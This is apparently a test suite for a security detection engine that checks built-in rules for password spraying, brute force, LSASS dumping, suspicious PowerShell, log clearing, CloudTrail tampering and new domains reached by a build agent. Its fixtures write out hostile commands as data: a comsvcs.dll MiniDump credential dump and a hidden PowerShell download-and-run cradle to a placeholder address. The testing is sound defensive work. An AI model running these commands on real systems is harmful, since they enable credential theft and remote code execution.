import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { getPath, type OcsfEvent } from '../../normalize/ocsf.js';
import { OCSF_SCHEMA_DIR, validateOcsf } from '../../testing/ocsf-schema.js';
import { sharedSkip } from '../../testing/shared.js';
import { cloudTrail, Scenario, windowsEvent, zeekConn } from '../correlation/testkit.js';
import { DetectionEngine, loadDetectionContent } from '../engine.js';
import { ipScope } from '../sequence/rule.js';
import type { Signal, StreamAnalyzer } from '../signal.js';
import { signalFinding } from '../sigma/finding.js';

const T0 = Date.parse('2026-03-02T09:00:00Z');
const SEC = 1000;
const MIN = 60 * SEC;

/** A stand-in for the baseline helper's analyzer: first external address per host, first domain per build agent. */
class FirstSeen implements StreamAnalyzer {
  name = 'first_seen_test';
  private seen = new Set<string>();
  observe(event: OcsfEvent, time: number): Signal[] {
    const uid = event.metadata.uid!;
    const make = (id: string, entities: Record<string, string>): Signal => ({
      kind: 'first_seen',
      rule: { id, title: `First seen (${id})`, level: 'low', tags: [] },
      firstTime: time,
      time,
      entities,
      eventIds: [uid],
      attack: { tactics: [], techniques: [] },
      summary: `first seen ${JSON.stringify(entities)}`,
      details: { key: `${id}|${JSON.stringify(entities)}` },
    });
    const src = getPath(event, 'src_endpoint.ip');
    if (event.class_uid === 4001) {
      const dst = getPath(event, 'dst_endpoint.ip');
      if (typeof src !== 'string' || typeof dst !== 'string' || ipScope(dst) !== 'public') return [];
      const key = `${src}>${dst}`;
      if (this.seen.has(key)) return [];
      this.seen.add(key);
      return [make('vigil.first_seen.host_external_ip', { host: src, ip: dst })];
    }
    if (event.class_uid === 4003 && src === '10.2.0.7') {
      const domain = getPath(event, 'query.hostname');
      if (typeof domain !== 'string' || this.seen.has(domain)) return [];
      this.seen.add(domain);
      return [make('vigil.first_seen.agent_domain', { agent: 'runner-7', domain })];
    }
    return [];
  }
  snapshot(): unknown {
    return [...this.seen];
  }
  restore(state: unknown): void {
    this.seen = new Set(state as string[]);
  }
}

function builtin(): Scenario {
  const content = loadDetectionContent({ rules: [] });
  const bad = content.reports.filter((r) => r.status !== 'ok');
  assert.deepEqual(bad, [], 'every built-in rule loads');
  return new Scenario(new DetectionEngine(content, { latenessMs: MIN, analyzers: [new FirstSeen()] }));
}

const logon = (time: number, id: 4624 | 4625, user: string, ip: string, computer = 'DC01.corp.example') =>
  windowsEvent({
    time,
    channel: 'Security',
    eventId: id,
    computer,
    data: {
      SubjectUserSid: 'S-1-0-0',
      TargetUserName: user,
      TargetDomainName: 'CORP',
      LogonType: 3,
      IpAddress: ip,
      IpPort: 50311,
      WorkstationName: 'ATTACKER',
      ...(id === 4625 ? { Status: '0xc000006d', SubStatus: '0xc000006a' } : { LogonProcessName: 'NtLmSsp' }),
    },
  });

/** Signals other than the first-seen analyzer's own. */
const detections = (s: Scenario) => s.signals.filter((x) => x.kind !== 'first_seen');

describe('built-in content', () => {
  test('password spraying: one address, ten users failing; background stays quiet', () => {
    const s = builtin();
    s.each([
      logon(T0, 4624, 'alice', '10.0.0.21'),
      logon(T0 + SEC, 4625, 'bob', '10.0.0.22'),
      logon(T0 + 2 * SEC, 4624, 'bob', '10.0.0.22'),
    ]);
    const ids = s.each(
      Array.from({ length: 12 }, (_, i) => logon(T0 + (10 + i * 20) * SEC, 4625, `user${i}`, '203.0.113.50')),
    );
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.rule.id, 'vigil.correlation.password_spraying');
    assert.deepEqual(found[0]!.entities, { IpAddress: '203.0.113.50' });
    assert.deepEqual(found[0]!.eventIds, ids.slice(0, 10));
    assert.equal(found[0]!.details?.value, 10);
  });

  test('brute force followed by a success', () => {
    const s = builtin();
    const failures = s.each(
      Array.from({ length: 6 }, (_, i) => logon(T0 + i * 10 * SEC, 4625, 'administrator', '198.51.100.7')),
    );
    s.each([
      logon(T0 + 70 * SEC, 4625, 'carol', '10.0.0.30'),
      logon(T0 + 80 * SEC, 4624, 'carol', '10.0.0.30'),
    ]);
    assert.equal(detections(s).length, 0);
    const [success] = s.each([logon(T0 + 5 * MIN, 4624, 'administrator', '198.51.100.7')]);
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.rule.id, 'vigil.correlation.brute_force_success');
    assert.deepEqual(found[0]!.entities, { IpAddress: '198.51.100.7', TargetUserName: 'administrator' });
    assert.deepEqual(found[0]!.eventIds, [...failures.slice(0, 5), success!]);
  });

  test('LSASS dumped through comsvcs.dll MiniDump: one critical finding; a plain rundll32 none', () => {
    const s = builtin();
    const proc = (time: number, cmd: string) =>
      windowsEvent({
        time,
        channel: 'Microsoft-Windows-Sysmon/Operational',
        eventId: 1,
        computer: 'WS-FIN-01.corp.example',
        data: {
          ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd0}',
          ProcessId: 9196,
          Image: 'C:\\Windows\\System32\\rundll32.exe',
          CommandLine: cmd,
          User: 'CORP\\alice',
        },
      });
    s.each([proc(T0, 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl')]);
    assert.equal(detections(s).length, 0);
    const [dump] = s.each([
      proc(
        T0 + MIN,
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\d.dmp full',
      ),
    ]);
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.rule.id, 'vigil.builtin.lsass_comsvcs_minidump');
    assert.equal(found[0]!.rule.level, 'critical');
    assert.deepEqual(found[0]!.eventIds, [dump]);
    assert.deepEqual(found[0]!.attack.techniques, ['T1003.001']);
  });

  test('suspicious PowerShell, then a first-seen external address from that host', () => {
    const s = builtin();
    const sysmon = (time: number, eventId: number, computer: string, data: Record<string, unknown>) =>
      windowsEvent({ time, channel: 'Microsoft-Windows-Sysmon/Operational', eventId, computer, data });
    const ps = (time: number, computer: string, cmd: string) =>
      sysmon(time, 1, computer, {
        ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
        ProcessId: 4242,
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: cmd,
        User: 'CORP\\alice',
      });
    const learn = (time: number, computer: string, ip: string) =>
      sysmon(time, 3, computer, {
        Image: 'C:\\Windows\\System32\\svchost.exe',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: ip,
        SourceHostname: computer,
        SourcePort: 50000,
        DestinationIp: '10.1.0.10',
        DestinationPort: 445,
      });
    s.each([learn(T0, 'WS01.corp.example', '10.1.2.15'), learn(T0, 'WS02.corp.example', '10.1.2.16')]);
    // Background: an admin's plain PowerShell on WS02, then a new external address from WS02.
    s.each([ps(T0 + MIN, 'WS02.corp.example', 'powershell.exe Get-Service')]);
    s.each([zeekConn({ time: T0 + 2 * MIN, orig: '10.1.2.16', resp: '93.184.216.34', port: 443 })]);
    // WS01 talks to that address first (first seen for WS01), before the PowerShell.
    s.each([zeekConn({ time: T0 + 2 * MIN, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    const [attack] = s.each([
      ps(
        T0 + 3 * MIN,
        'WS01.corp.example',
        "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
      ),
    ]);
    // Seen before: not first seen, no sequence.
    s.each([zeekConn({ time: T0 + 4 * MIN, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    assert.equal(detections(s).length, 0);
    const [conn] = s.each([
      zeekConn({ time: T0 + 5 * MIN, orig: '10.1.2.15', resp: '203.0.113.9', port: 80 }),
    ]);
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.rule.id, 'vigil.sequence.powershell_first_seen_external');
    assert.deepEqual(found[0]!.entities, { host: 'ws01' });
    assert.deepEqual(found[0]!.eventIds, [attack, conn]);
  });

  test('new admin account, then the log cleared on that host', () => {
    const s = builtin();
    const win = (
      time: number,
      channel: string,
      eventId: number,
      computer: string,
      data: Record<string, unknown> = {},
    ) => windowsEvent({ time, channel, eventId, computer, data });
    s.each([
      win(T0, 'Security', 4720, 'WS02.corp.example', {
        TargetUserName: 'helpdesk2',
        SubjectUserName: 'it-admin',
      }),
      win(T0 + MIN, 'Security', 1102, 'WS05.corp.example', { SubjectUserName: 'it-admin' }),
    ]);
    const [added] = s.each([
      win(T0 + 2 * MIN, 'Security', 4732, 'DC01.corp.example', {
        MemberName: 'CN=backdoor',
        TargetUserName: 'Administrators',
      }),
    ]);
    s.each([win(T0 + 3 * MIN, 'System', 7036, 'DC01.corp.example', { param1: 'Windows Update' })]);
    assert.equal(detections(s).length, 0);
    const [cleared] = s.each([
      win(T0 + 40 * MIN, 'Security', 1102, 'DC01.corp.example', { SubjectUserName: 'backdoor' }),
    ]);
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.rule.id, 'vigil.sequence.new_admin_then_log_cleared');
    assert.equal(found[0]!.rule.level, 'critical');
    assert.deepEqual(found[0]!.entities, { host: 'dc01' });
    assert.deepEqual(found[0]!.eventIds, [added, cleared]);
  });

  test('CloudTrail logging stopped is a plain rule', () => {
    const s = builtin();
    s.each([
      cloudTrail({
        time: T0,
        eventName: 'DescribeTrails',
        eventSource: 'cloudtrail.amazonaws.com',
        user: 'ops',
      }),
    ]);
    const [stop] = s.each([
      cloudTrail({
        time: T0 + MIN,
        eventName: 'StopLogging',
        eventSource: 'cloudtrail.amazonaws.com',
        user: 'mallory',
      }),
    ]);
    const found = detections(s);
    assert.equal(found.length, 1);
    assert.equal(found[0]!.kind, 'sigma');
    assert.equal(found[0]!.rule.id, '7d3c3b7e-9a2f-4d7e-8a53-0b4f1d6a2c10');
    assert.deepEqual(found[0]!.eventIds, [stop]);
  });

  test('a build agent reaching a never-seen domain is promoted', () => {
    const s = builtin();
    const dns = (time: number, query: string) =>
      JSON.stringify({
        ts: time / 1000,
        uid: `D${time}`,
        'id.orig_h': '10.2.0.7',
        'id.orig_p': 5353,
        'id.resp_h': '10.2.0.1',
        'id.resp_p': 53,
        proto: 'udp',
        query,
        qtype_name: 'A',
        rcode_name: 'NOERROR',
        answers: ['198.51.100.80'],
      });
    const [first] = s.each([dns(T0, 'registry.npmjs.org')]);
    s.each([dns(T0 + MIN, 'registry.npmjs.org')]);
    const [evil] = s.each([dns(T0 + 2 * MIN, 'exfil.evil.example')]);
    const found = detections(s).filter((x) => x.rule.id === 'vigil.sequence.build_agent_new_domain');
    assert.deepEqual(
      found.map((x) => [x.entities, x.eventIds]),
      [
        [{ agent: 'runner-7' }, [first]],
        [{ agent: 'runner-7' }, [evil]],
      ],
    );
  });
});

describe('findings for signals', { skip: sharedSkip(OCSF_SCHEMA_DIR) }, () => {
  test('a correlation signal becomes a valid Detection Finding referencing every event', () => {
    const s = builtin();
    const out = s.run(
      Array.from({ length: 10 }, (_, i) => logon(T0 + i * SEC, 4625, `u${i}`, '203.0.113.51')),
    );
    // The base rule is referenced by the correlations: it makes no finding of its own.
    assert.equal(out.findings.length, 1);
    assert.equal(out.signals.length, 1);
    const finding = out.findings[0]!;
    assert.equal(finding.source, 'sigma');
    assert.deepEqual(validateOcsf(finding.event), []);
    const info = finding.event.finding_info as {
      uid: string;
      related_events: { uid: string }[];
      analytic: { uid: string };
    };
    assert.equal(info.uid, out.signals[0]!.details!.key);
    assert.equal(info.analytic.uid, 'vigil.correlation.password_spraying');
    assert.deepEqual(
      info.related_events.map((r) => r.uid),
      out.ids,
    );
    assert.equal(finding.event.severity_id, 4);
  });

  test('a sequence signal and a Sigma finding are valid too', () => {
    const s = builtin();
    const out = s.run([
      cloudTrail({ time: T0, eventName: 'StopLogging', eventSource: 'cloudtrail.amazonaws.com', user: 'm' }),
    ]);
    assert.equal(out.findings.length, 1);
    assert.deepEqual(validateOcsf(out.findings[0]!.event), []);
    const seq: Signal = { ...out.signals[0]!, kind: 'sequence', eventIds: ['1', '2'], details: { key: 'k' } };
    assert.deepEqual(validateOcsf(signalFinding(seq)), []);
  });
});
